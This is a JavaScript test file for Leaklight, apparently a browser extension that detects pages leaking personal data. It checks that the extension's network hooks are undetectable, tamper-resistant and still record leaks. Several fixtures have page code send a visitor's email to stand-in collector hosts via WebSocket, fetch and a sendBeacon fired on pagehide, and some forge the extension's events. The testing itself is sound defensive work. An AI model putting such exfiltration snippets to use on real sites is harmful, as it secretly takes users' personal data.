/** Pages work with Leaklight's scripts in them as they work without, and learn nothing from them. */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { LAB } from "../site/lab/answer.js";
import { Customer } from "./customer.js";
import { eventually } from "./eventually.js";
import { browserName, openWatched } from "./stage.js";
import { nora } from "./visitor.js";

/**
 * Runs code as the page's own script does, and gives what it returns. The driver's scripts run in a world of their own in
 * Firefox, whose built-in functions are not the page's.
 */
const AS_PAGE = `const [code, done] = arguments;
  document.addEventListener("told to the driver", ({ detail }) => done(JSON.parse(detail)), { once: true });
  const script = document.createElement("script");
  script.textContent = "(async () => {" + code + "})().then((value) => document.dispatchEvent(new CustomEvent('told to the driver', { detail: JSON.stringify(value ?? null) })))";
  document.head.append(script);`;

/** Code that gives what a page can know of the functions that may be stood in for, as plain values. */
const FACTS = `
  const facts = {};
  const note = (name, value) => (facts[name] = String(value));
  const places = [[window, "fetch"], [window, "WebSocket"], [window, "XMLHttpRequest"], [window, "Request"], [window, "Blob"], [window, "File"],
    [WebSocket.prototype, "send"], [XMLHttpRequest.prototype, "open"], [XMLHttpRequest.prototype, "send"], [Navigator.prototype, "sendBeacon"],
    [Request.prototype, "clone"], [Function.prototype, "toString"]];
  for (const [owner, name] of places) {
    const { value, ...rest } = Object.getOwnPropertyDescriptor(owner, name);
    note(name, [value.name, value.length, typeof value, value, value.toString(), Function.prototype.toString.call(value), JSON.stringify(rest)]);
    note(name + " keys", Reflect.ownKeys(value).map(String).sort());
    if (value.prototype) note(name + " prototype", [value.prototype.constructor === value, Object.getPrototypeOf(value).name, Reflect.ownKeys(value.prototype).map(String)]);
  }
  const failure = (act) => { try { return act(); } catch (error) { return error.name + ": " + error.message + (/extension:/.test(error.stack) ? error.stack : ""); } };
  note("a call without new", failure(() => WebSocket("wss://a.collector.example/")));
  note("a bad URL", failure(() => new WebSocket("no url")));
  note("a socket not open", failure(() => new WebSocket("wss://unopened.collector.example/").send("x")));
  note("no socket", failure(() => WebSocket.prototype.send.call({}, "x")));
  note("no function", failure(() => Function.prototype.toString.call({})));
  note("a request not opened", failure(() => new XMLHttpRequest().send("x")));
  note("a bad Request", failure(() => new Request("/", { method: "GET", body: "x" })));
  note("no window", failure(() => fetch.call({}, "/")));
  class Own extends Blob {}
  const own = new Own(["text"]);
  note("a subclass", [own instanceof Own, own instanceof Blob, own.constructor === Own, own.size, new File(["a"], "b") instanceof Blob]);
  note("requests", [new Request("/x") instanceof Request, new Request(new Request("/y", { method: "POST", body: "z" })).method]);
  let reads = 0;
  const wishes = { get body() { reads += 1; return undefined; }, get method() { reads += 1; return "GET"; } };
  new Request("/", wishes);
  note("how often a wish is read", reads);
  note("what is thrown on", failure(() => new Request("/", { get method() { throw new RangeError("mine"); } })));
  const frame = document.createElement("iframe");
  document.body.append(frame);
  note("another window's socket", frame.contentWindow.WebSocket === WebSocket);
  frame.remove();
  const stacks = fetch("https://stern.collector.example/", { method: "PUT", body: "x" }).then(() => "answered", (error) => [error.name, /extension:/.test(error.stack)]);
  const read = new Request("/", { method: "POST", body: "abc" }).text();
  note("promises", JSON.stringify(await Promise.all([stacks, read])));
  return [facts, Object.getOwnPropertyNames(window)];
`;

/** @type {Awaited<ReturnType<typeof openWatched>>} */
let stage;
/** @type {Customer} */
let customer;
/** @type {[facts: { [name: string]: string }, names: string[]]} */
let natural;

before(async () => {
  stage = await openWatched(nora);
  customer = new Customer(stage.browser, nora);
  await customer.visit(`${LAB}/?facts=before`);
  natural = await asPage(FACTS);
  await stage.extension.atOptions((page) => page.turn("hooks", "on"));
});
after(() => stage?.close());

/** @param {string} code @returns {Promise<any>} */
const asPage = (code) => stage.browser.driver.executeAsyncScript(AS_PAGE, code);

/** @param {string} code @param {...unknown} values */
const inPage = (code, ...values) => stage.browser.driver.executeScript(code, ...values);

/** @param {string} host */
const found = async (host) => (await stage.extension.ledger()).filter(({ finding }) => finding.recipient.host === host);

test("a page can tell no function from the one that it had without Leaklight", async () => {
  assert.ok(Object.keys(natural[0]).length > 35);
  await customer.visit(`${LAB}/?facts=after`);
  const [facts, names] = await asPage(FACTS);
  assert.deepEqual(facts, natural[0]);
  assert.deepEqual(names.filter((/** @type {string} */ name) => !natural[1].includes(name)), []);
});

test("the scripts run nonetheless", async () => {
  const host = "running.collector.example";
  await inPage("const socket = new WebSocket(`wss://${arguments[0]}/`); socket.onopen = () => socket.send(arguments[1])", host, nora.email);
  await stage.site.record.told(host);
  await eventually(async () => assert.equal((await found(host)).length, 1));
});

test("functions that a page puts in place of the browser's break neither the page nor themselves", async () => {
  const host = "meddling.collector.example";
  await customer.visit(`${LAB}/?meddling`);
  const said = await asPage(
    `const [host, text] = ${JSON.stringify([host, nora.email])};
    const places = [[JSON, "stringify"], [String.prototype, "slice"], [Reflect, "apply"], [WeakMap.prototype, "get"], [WeakMap.prototype, "set"], [Array.prototype, "push"],
      [Array.prototype, "map"], [window, "URL"], [window, "CustomEvent"], [EventTarget.prototype, "dispatchEvent"], [performance, "now"], [window, "btoa"]];
    const mine = () => { throw new Error("mine"); };
    const socket = new WebSocket("wss://" + host + "/");
    await new Promise((opened) => (socket.onopen = opened));
    const natives = places.map(([owner, name]) => owner[name]);
    for (const [owner, name] of places) owner[name] = mine;
    let result = "unharmed";
    try { socket.send(text); navigator.sendBeacon("https://" + host + "/", new Blob([text])); fetch("https://" + host + "/", { method: "PATCH", body: text }); } catch (error) { result = String(error); }
    for (let at = 0; at < places.length; at++) places[at][0][places[at][1]] = natives[at];
    return result;`,
  );
  assert.equal(said, "unharmed");
  assert.equal((await stage.site.record.told(host)).length, 1);
});

test("what a page makes up of requests that were never made counts as sent nowhere", async () => {
  const host = "made-up.collector.example";
  await customer.visit(`${LAB}/?made-up`);
  // A frame's window is in the page's hands before any script of an extension can be in it.
  await asPage(
    `const [host, text] = ${JSON.stringify([host, nora.email])};
    const report = (kind, url) => JSON.stringify({ kind, method: "PATCH", url, text, cut: false });
    for (const target of [window, document.body.appendChild(document.createElement("iframe")).contentWindow]) {
      target.document.dispatchEvent(new target.CustomEvent("leaklight:meet", { detail: "mine" }));
      target.document.dispatchEvent(new target.CustomEvent("mine", { detail: report("body", "https://" + host + "/") }));
      target.document.dispatchEvent(new target.CustomEvent("mine", { detail: report("message", "wss://" + host + "/") }));
    }`,
  );
  const tabId = await stage.extension.tabId();
  await stage.sentinel.passed();
  assert.deepEqual((await found(host)).filter(({ counts }) => counts.sent > 0), []);
  assert.equal(await stage.extension.countedRecipients(tabId), 0);
});

test("a page hears nothing of what Leaklight's scripts say to each other", async () => {
  await customer.visit(`${LAB}/?listening`);
  const heard = await asPage(
    `const [host, text] = ${JSON.stringify(["listening.collector.example", nora.email])};
    const heard = [];
    const { dispatchEvent, addEventListener } = EventTarget.prototype;
    for (const name of ["leaklight:meet", "leaklight:ready", "message"]) document.addEventListener(name, ({ type }) => heard.push(type));
    EventTarget.prototype.dispatchEvent = function (event) { heard.push(event.type); return dispatchEvent.call(this, event); };
    document.dispatchEvent.call(document, new CustomEvent("leaklight:ready"));
    const socket = new WebSocket("wss://" + host + "/");
    await new Promise((opened) => (socket.onopen = opened));
    socket.send(text);
    return heard;`,
  );
  // Its own word, twice, and no answer to it.
  assert.deepEqual([...new Set(heard)], ["leaklight:ready"]);
});

test("a flood is told in part, and how much was left out is said", async () => {
  const host = "flood.collector.example";
  await customer.visit(`${LAB}/?flood`);
  const tabId = await stage.extension.tabId();
  await inPage("const socket = new WebSocket(`wss://${arguments[0]}/`); socket.onopen = () => { for (let at = 0; at < 1000; at++) socket.send(`${at} ${arguments[1]}`); }", host, nora.email);
  await stage.site.record.told(host, { count: 1000 });
  await eventually(async () => {
    const { beyond } = await stage.extension.popup(tabId);
    assert.equal(Number(beyond?.told) + Number(beyond?.untold), 1000);
    assert.ok(Number(beyond?.told) >= 40 && Number(beyond?.untold) > 500, JSON.stringify(beyond));
  });
});

test("a beacon with a Blob that a page sends as it is left is found on that page", { skip: browserName() === "firefox" && "Firefox shows it by itself" }, async () => {
  const host = "leaving.collector.example";
  await customer.visit(`${LAB}/?leaving`);
  await inPage(
    "const [host, text] = arguments; addEventListener('pagehide', () => navigator.sendBeacon(`https://${host}/`, new Blob([JSON.stringify({ text })], { type: 'text/plain' })))",
    host,
    nora.email,
  );
  await customer.visit(`${LAB}/?left`);
  await stage.site.record.arrival("the beacon", (recorded) => recorded.host === host);
  await eventually(async () => assert.deepEqual((await found(host)).map(({ finding, counts }) => [finding.witness, counts.sent]), [["page", 1]]));
});

test("turned off, no script runs in pages that are opened from then on", async () => {
  await stage.extension.atOptions((page) => page.turn("hooks", "off"));
  const host = "turned-off.collector.example";
  await customer.visit(`${LAB}/?turned-off`);
  await inPage("const socket = new WebSocket(`wss://${arguments[0]}/`); socket.onopen = () => socket.send(arguments[1])", host, nora.email);
  await stage.site.record.told(host);
  await stage.sentinel.passed();
  assert.deepEqual(await found(host), []);
});
